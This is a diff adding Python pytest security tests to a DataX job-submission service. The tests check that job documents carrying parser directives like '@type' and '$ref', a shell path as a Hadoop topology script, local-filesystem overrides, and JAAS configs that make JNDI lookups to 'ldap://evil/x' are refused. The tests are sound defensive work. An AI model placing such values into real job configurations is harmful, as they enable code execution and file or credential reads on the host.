@@ -1,5 +1,6 @@
 """Plugins, transformers, SQL and configuration that jobs may bring."""
 
+import pytest
 from flask.testing import FlaskClient
 
 from tests.security.jobs import STREAM_WRITER, database, job, refusals
@@ -46,6 +47,47 @@ def test_a_job_may_not_bring_plugins_or_classes() -> None:
     evil["core"] = {"transport": {"channel": {"class": "Evil", "speed": {"byte": 5}}}}
     assert sorted(pointer for pointer, _ in refusals(evil)) == ["/core/transport/channel/class", "/plugin"]
     assert refusals(job() | {"core": {"transport": {"channel": {"speed": {"byte": 5}}}}}) == []
+
+
+@pytest.mark.parametrize("name", ["$ref", "@type"])
+def test_a_document_gives_the_parser_no_instructions(name: str) -> None:
+    """Older versions of DataX put in the place of `$ref` what no rule has looked at, and make an object of the class `@type`."""
+    evil = database("jdbc:mysql://127.0.0.1/x")
+    evil["job"]["content"][0]["reader"]["parameter"]["connection"] = [{name: "$.hidden"}]
+    ((pointer, _),) = refusals(evil)
+    assert pointer == f"/job/content/0/reader/parameter/connection/0/{name}"
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"net.topology.script.file.name": "/bin/sh"},
+        {"hadoop.security.credential.provider.path": "localjceks://file/etc/x"},
+        {"fs.hdfs.impl": "org.apache.hadoop.fs.LocalFileSystem"},
+        {"fs.hdfs.impl": "org.apache.hadoop.fs.RawLocalFileSystem"},
+        {"fs.AbstractFileSystem.hdfs.impl": "org.apache.hadoop.fs.local.LocalFs"},
+        {
+            "sasl.jaas.config": 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";'
+        },
+        {"sasl.jaas.config": "com.sun.security.auth.module.LdapLoginModule required;"},
+    ],
+)
+def test_options_of_client_libraries_reach_no_code_and_no_files(options: dict[str, str]) -> None:
+    ((pointer, _),) = refusals(job(reader={"name": "anyreader", "parameter": {"hadoopConfig": options}}))
+    assert pointer == f"/job/content/0/reader/parameter/hadoopConfig/{next(iter(options))}"
+
+
+def test_ordinary_options_of_client_libraries_pass() -> None:
+    options = {
+        "fs.hdfs.impl": "org.apache.hadoop.hdfs.DistributedFileSystem",
+        "dfs.client.failover.proxy.provider.ns": "org.apache.hadoop.hdfs.server.namenode.ha.ConfiguredFailoverProxyProvider",
+        "sasl.jaas.config": "org.apache.kafka.common.security.scram.ScramLoginModule required username=u password=p;",
+    }
+    reader = {
+        "name": "anyreader",
+        "parameter": {"hadoopConfig": options, "script": "a member without a dot is no option"},
+    }
+    assert refusals(job(reader=reader)) == []
 
 
 def test_a_refused_job_makes_no_task_and_says_where(api: FlaskClient) -> None:
